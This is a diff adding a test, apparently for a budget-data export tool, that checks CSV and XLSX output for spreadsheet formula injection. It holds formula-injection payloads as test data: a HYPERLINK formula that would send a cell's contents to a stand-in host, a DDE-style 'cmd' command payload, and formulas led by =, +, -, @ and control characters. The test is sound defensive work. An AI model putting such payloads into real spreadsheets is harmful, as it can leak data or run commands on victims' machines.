@@ -65,3 +65,88 @@ it("exports an XLSX workbook whose years and budgets are number cells in Rupiah"
   expect(rows).toBe(1 + sources!.programs.length + 1);
   expect(sheet).toMatch(new RegExp(`<c r="Z${rows}" s="\\d+"><v>62891000000</v></c>`));
 });
+
+it("writes no cell a spreadsheet would take for a formula, in CSV and XLSX alike", async () => {
+  const dir = await mkdtemp(path.join(os.tmpdir(), "mp-export-"));
+  const { cp, writeFile } = await import("node:fs/promises");
+  await cp("test/fixtures/kota-contoh", dir, { recursive: true });
+  const attacks = [
+    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(1+1)",
+    "\tTab di depan",
+    "\rCR di depan",
+  ];
+  for (const [i, name] of attacks.entries()) {
+    const file = path.join(dir, "programs", "governance", `serangan-${i}.yaml`);
+    const program = readFileSync(
+      path.join(dir, "programs", "governance", "program-governance.yaml"),
+      "utf8",
+    );
+    await writeFile(
+      file,
+      program
+        .replace(/^id: .*$/m, `id: serangan-${i}`)
+        .replace(/^name: .*$/m, `name: ${JSON.stringify(name)}`),
+    );
+  }
+  const agencies = path.join(dir, "agencies.yaml");
+  await writeFile(
+    agencies,
+    (await readFile(agencies, "utf8")).replace(
+      /abbreviation: .*/,
+      `abbreviation: "@SUM(1+1)*cmd|' /C calc'!A0"`,
+    ),
+  );
+  const csvFile = path.join(dir, "p.csv");
+  const xlsxFile = path.join(dir, "p.xlsx");
+  expect((await runCli(["export", dir, "--out", csvFile])).code).toBe(0);
+  expect((await runCli(["export", dir, "--format", "xlsx", "--out", xlsxFile])).code).toBe(0);
+
+  // Every cell, read back as a spreadsheet would: none begins with a formula's first character.
+  const csvCells = parseCsv((await readFile(csvFile, "utf8")).replace(/^\uFEFF/, ""));
+  const zip = unzipSync(new Uint8Array(await readFile(xlsxFile)));
+  const shared = strFromU8(zip["xl/sharedStrings.xml"] ?? new Uint8Array());
+  const sheet = strFromU8(zip["xl/worksheets/sheet1.xml"]!);
+  const xmlText = (s: string) =>
+    s
+      .replace(/&lt;/g, "<")
+      .replace(/&gt;/g, ">")
+      .replace(/&quot;/g, '"')
+      .replace(/&amp;/g, "&");
+  const xlsxCells = [
+    ...[...shared.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => xmlText(m[1]!)),
+    ...[...sheet.matchAll(/<is><t[^>]*>([^<]*)<\/t><\/is>/g)].map((m) => xmlText(m[1]!)),
+  ];
+  expect(sheet).not.toContain("<f>");
+  for (const cells of [csvCells, xlsxCells]) {
+    expect(cells.length).toBeGreaterThan(20);
+    for (const c of cells) expect(c, JSON.stringify(c)).not.toMatch(/^[=+\-@\t\r]/);
+    for (const name of attacks) expect(cells).toContain(`'${name}`);
+  }
+});
+
+/** RFC 4180 cells, quotes and line breaks inside them included. */
+function parseCsv(text: string): string[] {
+  const cells: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === "," || (c === "\r" && text[i + 1] === "\n")) {
+      cells.push(cell);
+      cell = "";
+      if (c === "\r") i++;
+    } else cell += c;
+  }
+  return cells;
+}
